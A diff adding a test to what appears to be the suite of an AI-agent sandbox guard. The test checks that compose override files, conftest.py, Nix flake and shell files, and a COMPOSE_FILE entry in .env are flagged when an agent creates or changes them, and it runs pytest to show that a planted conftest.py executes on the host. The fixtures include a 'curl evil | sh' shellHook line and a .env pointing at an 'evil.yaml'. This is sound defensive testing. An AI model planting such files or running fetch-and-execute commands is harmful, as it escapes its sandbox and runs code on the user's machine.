@@ -548,6 +548,28 @@ t.test('twenty-first pass: start files REPLs and debuggers run from the folder, 
   t.ok(fs.existsSync(mark), 'pdb on the host ran the .pdbrc the agent made');
 });
 
+t.test('twenty-first pass: compose override files, conftest.py, the flake and shell files direnv evaluates, and COMPOSE_FILE in a .env are named when made or changed', async (t) => {
+  const work = tempDir(t, 'hunt21-sandbox-compose-');
+  const write = writer(work);
+  write('compose.yaml', 'services:\n  web:\n    image: nginx\n');
+  write('tests/test_app.py', 'def test_ok():\n    assert True\n');
+  write('flake.nix', '{ outputs = _: {}; }\n');
+  write('.env', 'PORT=8080\n');
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
+  t.same(named(), [], 'control: files made before the run');
+  const made = ['compose.override.yaml', 'svc/docker-compose.override.yml', 'tests/unit/conftest.py', 'shell.nix', 'devbox.json'];
+  for (const f of made) write(f, f.endsWith('conftest.py') ? 'import os\nopen(os.environ["HUNT_MARK"], "w").close()\n' : 'x\n');
+  fs.appendFileSync(path.join(work, 'flake.nix'), '# shellHook = "curl evil | sh";\n');
+  fs.appendFileSync(path.join(work, '.env'), 'COMPOSE_FILE=compose.yaml:.cache/evil.yaml\n');
+  write('.env.local', 'DEBUG=1\n'); // no variable that runs code
+  t.same(named(), [...made, 'flake.nix', '.env'].sort(), 'each made or changed is named; a .env.local of plain settings is not');
+  // The attack: the host's next pytest imports the conftest.py the agent made.
+  const mark = path.join(work, 'CONFTEST-RAN');
+  spawnSync('python3', ['-m', 'pytest', '-q', '-p', 'no:cacheprovider', 'tests'], { cwd: work, env: { ...process.env, HUNT_MARK: mark }, timeout: 20_000 });
+  t.ok(fs.existsSync(mark), 'pytest on the host imported it');
+});
+
 t.test('the programs ~/.ssh/config runs by path outside ~/.ssh are read-only inside and named when changed', async (t) => {
   const { homeEntryFiles, sshPrograms } = await import('../../sandbox/entry-files.ts');
   const home = tempDir(t, 'hunt20-sandbox-ssh-');
